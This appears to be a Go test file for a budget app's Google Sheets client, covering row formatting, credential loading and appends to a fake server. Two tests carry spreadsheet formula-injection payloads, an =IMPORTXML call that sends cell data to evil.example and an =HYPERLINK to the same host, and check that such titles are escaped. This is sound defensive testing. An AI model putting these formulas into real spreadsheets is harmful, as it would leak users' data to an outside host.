package google

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"budget/internal/core"
)

func sampleTransaction() core.Transaction {
	return core.Transaction{
		ID:       "tx-1",
		Title:    "Rent October",
		Amount:   decimal.RequireFromString("1200.5"),
		Type:     core.Expense,
		Category: core.Rent,
		Date:     core.NewDate(2023, time.October, 1),
	}
}

func TestTransactionRow(t *testing.T) {
	row := transactionRow(sampleTransaction())
	want := []any{"2023-10-01", "Rent October", "expense", "Rent", "1200.50", "tx-1"}
	if len(row) != len(want) {
		t.Fatalf("row = %v", row)
	}
	for i := range want {
		if row[i] != want[i] {
			t.Fatalf("col %d = %v, want %v", i, row[i], want[i])
		}
	}

	income := sampleTransaction()
	income.Type, income.Category = core.Income, ""
	if got := transactionRow(income)[3]; got != "" {
		t.Fatalf("income category cell = %v", got)
	}
}

func TestTransactionRowQuotesFormulaText(t *testing.T) {
	tests := []struct {
		title string
		want  string
	}{
		{`=IMPORTXML("http://evil.example/?"&A1,"//x")`, `'=IMPORTXML("http://evil.example/?"&A1,"//x")`},
		{"+1+2", "'+1+2"},
		{"-refund", "'-refund"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"Lunch = pizza", "Lunch = pizza"},
		{"'quoted", "'quoted"},
	}
	for _, tt := range tests {
		tx := sampleTransaction()
		tx.Title = tt.title
		if got := transactionRow(tx)[1]; got != tt.want {
			t.Errorf("title %q -> %q, want %q", tt.title, got, tt.want)
		}
	}
}

func TestYearPrefixedName(t *testing.T) {
	tests := []struct {
		base string
		year int
		want string
	}{
		{"Transactions", 2023, "2023 Transactions"},
		{"2022 Transactions", 2023, "2022 Transactions"},
		{"  Budget ", 2024, "2024 Budget"},
		{"", 2024, ""},
	}
	for _, tt := range tests {
		if got := yearPrefixedName(tt.base, tt.year); got != tt.want {
			t.Errorf("yearPrefixedName(%q, %d) = %q, want %q", tt.base, tt.year, got, tt.want)
		}
	}
}

func TestA1Range(t *testing.T) {
	if got := a1Range("2023 Transactions", "A:F"); got != "'2023 Transactions'!A:F" {
		t.Fatalf("got %q", got)
	}
	if got := a1Range("Bob's", "F:F"); got != "'Bob''s'!F:F" {
		t.Fatalf("got %q", got)
	}
}

func TestColumnValues(t *testing.T) {
	values := [][]any{{"id"}, {"a"}, {}, {" b "}, {"#note"}, {"a"}}
	got := columnValues(values)
	if strings.Join(got, ",") != "a,b" {
		t.Fatalf("got %v", got)
	}
}

func TestCredentialsFromEnv(t *testing.T) {
	t.Setenv("GOOGLE_SERVICE_ACCOUNT_JSON", "")
	t.Setenv("GOOGLE_SERVICE_ACCOUNT_FILE", "")
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")

	if _, err := CredentialsFromEnv(); err == nil {
		t.Fatalf("expected error without credentials")
	}

	path := filepath.Join(t.TempDir(), "sa.json")
	if err := os.WriteFile(path, []byte(`{"type":"service_account"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", path)
	data, err := CredentialsFromEnv()
	if err != nil || !strings.Contains(string(data), "service_account") {
		t.Fatalf("file credentials = %q, %v", data, err)
	}

	t.Setenv("GOOGLE_SERVICE_ACCOUNT_JSON", `{"inline":true}`)
	data, err = CredentialsFromEnv()
	if err != nil || string(data) != `{"inline":true}` {
		t.Fatalf("inline credentials = %q, %v", data, err)
	}
}

func TestNewRequiresSpreadsheetID(t *testing.T) {
	if _, err := New(context.Background(), Options{}, nil); err == nil || !strings.Contains(err.Error(), "GOOGLE_SPREADSHEET_ID") {
		t.Fatalf("expected missing id error, got %v", err)
	}
}

// fakeSheets records append requests and serves a fixed id column.
type fakeSheets struct {
	mu          sync.Mutex
	appends     []gsheet.ValueRange
	paths       []string
	inputOption string
}

func (f *fakeSheets) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	f.paths = append(f.paths, r.URL.Path)
	f.mu.Unlock()

	w.Header().Set("Content-Type", "application/json")
	switch {
	case r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, ":append"):
		body, _ := io.ReadAll(r.Body)
		var vr gsheet.ValueRange
		if err := json.Unmarshal(body, &vr); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		f.mu.Lock()
		f.appends = append(f.appends, vr)
		f.inputOption = r.URL.Query().Get("valueInputOption")
		f.mu.Unlock()
		_, _ = io.WriteString(w, `{"updates":{"updatedRange":"'2023 Transactions'!A2:F2"}}`)
	case r.Method == http.MethodGet:
		_, _ = io.WriteString(w, `{"values":[["id"],["tx-1"],["tx-2"]]}`)
	default:
		http.NotFound(w, r)
	}
}

func newTestClient(t *testing.T, h http.Handler) *Client {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("create service: %v", err)
	}
	return newWithService(svc, "sheet-id", "", nil)
}

func TestAppendTransaction(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	ref, err := c.AppendTransaction(context.Background(), sampleTransaction())
	if err != nil {
		t.Fatalf("AppendTransaction: %v", err)
	}
	if ref != "'2023 Transactions'!A2:F2" {
		t.Fatalf("ref = %q", ref)
	}
	if len(fake.appends) != 1 || len(fake.appends[0].Values) != 1 {
		t.Fatalf("appends = %+v", fake.appends)
	}
	row := fake.appends[0].Values[0]
	if row[5] != "tx-1" || row[4] != "1200.50" {
		t.Fatalf("row = %v", row)
	}
	if !strings.Contains(fake.paths[0], "sheet-id") {
		t.Fatalf("path = %q", fake.paths[0])
	}
}

func TestAppendTransactionSendsQuotedTitle(t *testing.T) {
	fake := &fakeSheets{}
	c := newTestClient(t, fake)

	tx := sampleTransaction()
	tx.Title = `=HYPERLINK("http://evil.example","click")`
	if _, err := c.AppendTransaction(context.Background(), tx); err != nil {
		t.Fatalf("AppendTransaction: %v", err)
	}
	if fake.inputOption != "USER_ENTERED" {
		t.Fatalf("valueInputOption = %q", fake.inputOption)
	}
	if got := fake.appends[0].Values[0][1]; got != "'"+tx.Title {
		t.Fatalf("title cell = %v", got)
	}
}

func TestListTransactionIDs(t *testing.T) {
	c := newTestClient(t, &fakeSheets{})

	ids, err := c.ListTransactionIDs(context.Background(), 2023)
	if err != nil {
		t.Fatalf("ListTransactionIDs: %v", err)
	}
	if strings.Join(ids, ",") != "tx-1,tx-2" {
		t.Fatalf("ids = %v", ids)
	}
}

func TestNilServiceFails(t *testing.T) {
	c := &Client{}
	if _, err := c.AppendTransaction(context.Background(), sampleTransaction()); err == nil {
		t.Fatalf("expected error without service")
	}
	if _, err := c.ListTransactionIDs(context.Background(), 2023); err == nil {
		t.Fatalf("expected error without service")
	}
}
